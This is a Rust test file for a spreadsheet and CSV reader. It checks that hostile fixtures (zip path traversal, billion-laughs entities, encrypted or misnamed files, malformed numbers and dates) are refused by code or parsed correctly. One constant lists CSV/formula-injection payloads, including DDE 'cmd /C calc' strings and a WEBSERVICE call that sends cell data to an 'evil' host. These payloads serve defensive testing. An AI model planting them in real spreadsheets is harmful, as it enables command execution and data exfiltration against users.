//! Hostile files, made by hand: each is refused by name, or read rightly. The manifest says what each of them is.

use super::{files, outcome, read};

/// What comes of each file: the refusal with its place, or all that was noticed and every cell.
const EXPECTED: &[(&str, &str)] = &[
    ("A10_sst_uniqueCount_2e64.xlsx", r#"A1 "hei""#),
    ("A12_sst_uniqueCount_1e9.xlsx", r#"A1 "hei""#),
    ("A14_grid_A1_Z1048576.xlsx", "A1 1; Z1048576 2"),
    ("A16_dim_max_one_cell.xlsx", "A1 1"),
    ("A24_billion_laughs_workbook.xlsx", "T101"),
    ("A26_internal_entity_value.xlsx", "T101 Ark1"),
    ("B02_ref_row_wraps_to_1.xlsx", "T101 Ark1 A3"),
    ("B04_row_attr_overflow.xlsx", "T101 Ark1 A3"),
    ("B06_dup_cell.xlsx", "T101 Ark1 A1"),
    ("B08_row_cell_contradict.xlsx", "T101 Ark1 B7"),
    ("B10_lower_dollar_refs.xlsx", "T101 Ark1 A1"),
    ("B12_dim_garbage.xlsx", "A1 1"),
    ("B20_sst_index_text.xlsx", "T101 Ark1 A1"),
    ("B22_sst_index_float.xlsx", "T101 Ark1 A1"),
    ("B24_sst_index_range.xlsx", "T101 Ark1 A1"),
    ("B26_sst_other_name.xlsx", r#"A1 "Oslo""#),
    ("B28_v_cdata.xlsx", "A1 500"),
    ("B30_v_twice.xlsx", "T101 Ark1 A1"),
    ("B32_bool_2.xlsx", "T101 Ark1 A1"),
    ("B33b_err_CALC.xlsx", "A1 1; B1 error #CALC!; C1 3"),
    ("B33d_err_BUSY.xlsx", "A1 1; B1 error #BUSY!; C1 3"),
    ("B33f_err_CONNECT.xlsx", "A1 1; B1 error #CONNECT!; C1 3"),
    ("B33h_err_GETTING_DATA.xlsx", "A1 1; B1 error #GETTING_DATA; C1 3"),
    ("B33j_err_PYTHON.xlsx", "A1 1; B1 error #PYTHON!; C1 3"),
    (
        "B40_numbers_untyped.xlsx",
        "T302 Ark1 A1; T302 Ark1 A2; T302 Ark1 A3; T302 Ark1 A4; T302 Ark1 A5; T302 Ark1 A13; T302 Ark1 A14; \
         T302 Ark1 A16; T302 Ark1 A27; T302 Ark1 A28; T302 Ark1 A29; T302 Ark1 A30; A1 error NaN; A2 error nan; \
         A3 error INF; A4 error -inf; A5 error infinity; A6 beyond 1e999; A7 beyond -1e999; A8 beyond 1e308; \
         A9 beyond 1.7976931348623157e308; A10 0; A11 0; A12 beyond 5e-324; A13 error 0x10; A14 error 1,5; A15 5; \
         A16 error 1_000; A17 5; A18 0.5; A19 5; A20 100000; A21 12345678901234567000; A22 9007199254740992; \
         A23 0.30000000000000004; A24 beyond 1…1; A25 0.3333333333333333; A26 1234567.89; A27 error １２; \
         A28 error 1 000; A29 error 1\u{a0}000; A30 error −5",
    ),
    ("B41b_number_typed_1.xlsx", "T302 Ark1 A1; A1 error 1,5"),
    ("B41d_number_typed_3.xlsx", "A1 beyond 1e999"),
    ("B43_formats.xlsx", FORMATS),
    ("B45_date_serials_1904.xlsx", SERIALS),
    ("B47_formula_no_cache.xlsx", "A1 formula without value; B1 2; C1 3"),
    ("B49_formula_empty_str.xlsx", r#"A1 = ""; B1 = error #DIV/0!"#),
    ("B51_hidden_sheets.xlsx", "hidden sheet Skjult; A1 1; hidden sheet MegetSkjult; A1 2; A1 3"),
    ("B53_merged_hidden_values.xlsx", "merged A1:B2; A1 1; B1 999; A2 888"),
    ("B55_csv_injection.xlsx", INJECTION),
    ("B57_raw_control_chars.xlsx", "T101 Ark1"),
    ("B59_declared_latin1.xlsx", "T101 Ark1"),
    ("B61_ws_no_preserve.xlsx", r#"A1 "a b""#),
    ("B63_malformed_endtags.xlsx", "T101 Ark1 B1"),
    ("B65_second_sheetdata.xlsx", "T101 Ark1"),
    ("B67_foreign_ns_cells.xlsx", "T101 Ark1"),
    ("B69_macro.xlsm", "T110; A1 123"),
    ("C01_dup_entry.xlsx", "T101"),
    ("C03_dup_entry_backslash.xlsx", "T101"),
    ("C05_rel_traversal.xlsx", "T101"),
    ("C07_sheet_part_at_root.xlsx", "A1 1"),
    ("C09_truncated.xlsx", "T101"),
    ("C13_concatenated_zips.xlsx", "T101"),
    ("C15_crc_stored_changed.xlsx", "T101 Ark1"),
    ("C16_method_lzma.xlsx", "T101"),
    ("C18_zip_encrypted_flag.xlsx", "T105"),
    ("C20_sheet_part_missing.xlsx", "T101 Ark1"),
    ("D01_empty.xlsx", "T102"),
    ("D04_html_as.xlsx", "T104"),
    ("D05_csv_as.xlsx", "T104"),
    ("D06_html_as.xls", "T104"),
    ("D07_xml2003_as.xls", "T104"),
    ("D08_xls_as.xlsx", "T104"),
    ("D09_xlsx_as.xls", "T104"),
    ("D10_ods_as.xlsx", "T104"),
    ("D11_xlsb_as.xlsx", "T104"),
    ("D12_pdf_as.xlsx", "T104"),
    ("D13_docx_as.xlsx", "T104"),
    ("D14_noext", "A1 100"),
    ("D15_encrypted.xlsx", "T105"),
    ("D16_sheet_protected.xlsx", "A1 1; A2 formula without value"),
    ("E02_cp1252.csv", r#"A1 "Kommune"; B1 "Beløp"; A2 "Tromsø"; B2 "100""#),
    ("E04_unclosed_quote.csv", "T112"),
    ("E06_nul.csv", "T111"),
    ("E08_mixed_eol.csv", r#"A1 "a"; B1 "b"; A2 "1"; B2 "2"; A3 "3"; B3 "4""#),
    ("E10_comma_vs_semicolon.csv", r#"A1 "Kommune"; B1 "Beløp"; A2 "Oslo"; B2 "1,5"; A3 "Bergen"; B3 "2,5""#),
    ("E11_unclosed_quote_last_col.csv", "T112"),
];

/// 45000.5 under 41 number formats: a date only where the format shows one. Column B holds the format.
const FORMATS: &str = r##"A1 D; B1 "14"; A2 D; B2 "22"; A3 D; B3 "dd.mm.yyyy"; A4 D; B4 "[$-414]d. mmmm yyyy;@"; A5 D; B5 "yyyy-mm-dd"; A6 N; B6 "h:mm"; A7 N; B7 "[h]:mm"; A8 N; B8 "46"; A9 N%; B9 "9"; A10 N%; B10 "10"; A11 N%; B11 "0.0%"; A12 N; B12 "#,##0 \"dager\""; A13 N; B13 "0 \"stk\""; A14 N; B14 "\"Måned\" 0"; A15 N; B15 "0\" m\""; A16 N; B16 "# ##0\" år\""; A17 N; B17 "\"kr\" # ##0"; A18 N; B18 "kr #,##0"; A19 N; B19 "[=1]\"ja\";[=0]\"nei\";0"; A20 N; B20 "[Red]0;[Blue]-0"; A21 N; B21 "0 \\d\\a\\g\\e\\r"; A22 N; B22 "0 mnd"; A23 N; B23 "#,##0.00\\ [$kr-414]"; A24 N; B24 "_-* #,##0.00\\ _k_r_-"; A25 N; B25 "@"; A26 N; B26 ";;;"; A27 N; B27 "General"; A28 N; B28 "Standard"; A29 D; B29 "d/m"; A30 D; B30 "mmm-yy"; A31 N; B31 "0.00E+00"; A32 N; B32 "# ?/?"; A33 D; B33 "[$-F800]dddd\\,\\ mmmm\\ dd\\,\\ yyyy"; A34 N; B34 "[$-F400]h:mm:ss AM/PM"; A35 D; B35 "yyyy\"/\"yyyy"; A36 N; B36 "0000"; A37 N; B37 "000 00 000"; A38 N; B38 "0;-0;;@"; A39 D; B39 "[<0]\"minus\";yyyy"; A40 D; B40 "27"; A41 D; B41 "57""##;

const SERIALS: &str = r#"A1 no date -1; B1 "-1"; A2 1904-01-01T00:00:00; B2 "0"; A3 1904-01-01T12:00:00; B3 "0.5"; A4 1904-01-02T00:00:00; B4 "1"; A5 1904-02-29T00:00:00; B5 "59"; A6 1904-03-01T00:00:00; B6 "60"; A7 1904-03-02T00:00:00; B7 "61"; A8 1905-01-01T00:00:00; B8 "366"; A9 1905-01-02T00:00:00; B9 "367"; A10 1908-01-01T00:00:00; B10 "1461"; A11 no date 2958465; B11 "2958465"; A12 no date 2958465.99999; B12 "2958465.99999"; A13 no date 2958466; B13 "2958466"; A14 no date 1e10; B14 "1e10"; A15 2027-03-17T00:00:00; B15 "45000.99999999"; A16 2027-03-16T23:59:59; B16 "45000.999988426"; A17 1904-01-02T00:00:00; B17 "0.99999999""#;

const INJECTION: &str = r#"A1 "=cmd|' /C calc'!A0"; A2 "+cmd|' /C calc'!A0"; A3 "-2+3+cmd|' /C calc'!A0"; A4 "@SUM(1+1)*cmd|' /C calc'!A0"; A5 "\t=1+1"; A6 "\n=1+1"; A7 "=HYPERLINK(\"http://evil\",\"x\")"; A8 "=WEBSERVICE(\"http://evil/?\"&A1)"; A9 "=DDE(\"cmd\";\"/C calc\";\"x\")"; A10 "＝1+1"; A11 "＋1"; A12 "－1"; A13 "＠x"; A14 "\"=1+1"; A15 "'=1+1"; A16 ";=1+1"; A17 ",=1+1"; A18 "\n=1+1"; A19 "-5"; A20 "-5,5"; A21 "+47 22 33 44 55"; A22 "@kommune""#;

/// The outcome with what is long in it made short.
fn short(outcome: &str) -> String {
    let outcome = outcome.replace("45000.5 as per cent", "N%").replace("45000.5;", "N;");
    let outcome = outcome.replace("2023-03-15T12:00:00", "D");
    let ones = outcome.split(' ').find(|word| word.len() > 30 && word.trim_end_matches(';').chars().all(|c| c == '1'));
    match ones {
        Some(ones) => outcome.replace(ones.trim_end_matches(';'), "1…1"),
        None => outcome,
    }
}

#[test]
fn every_hostile_file_is_refused_by_name_or_read_rightly() {
    for (name, expected) in EXPECTED {
        assert_eq!(short(&outcome(&read(&format!("hostile/{name}")))), *expected, "{name}");
    }
}

#[test]
fn every_hostile_file_is_expected_and_in_the_manifest() {
    let manifest = std::fs::read_to_string(super::fixture("hostile/manifest.csv")).expect("the manifest");
    let mut listed: Vec<&str> = manifest.lines().skip(1).filter_map(|line| line.split(',').next()).collect();
    let mut expected: Vec<&str> = EXPECTED.iter().map(|(name, _)| *name).collect();
    let files = files("hostile");
    let mut present: Vec<&str> = files.iter().filter_map(|path| path.strip_prefix("hostile/")).collect();
    present.retain(|name| *name != "manifest.csv");
    listed.sort_unstable();
    expected.sort_unstable();
    assert_eq!(expected, listed);
    assert_eq!(expected, present);
}
